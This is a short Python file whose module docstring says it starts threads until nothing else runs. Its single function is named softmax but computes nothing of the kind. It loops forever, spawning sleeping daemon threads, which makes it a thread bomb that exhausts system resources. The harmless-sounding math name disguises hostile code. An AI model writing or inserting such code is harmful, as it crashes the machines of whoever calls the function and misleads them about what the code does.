"""Starts threads until nothing else runs."""

import threading
import time


def softmax(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
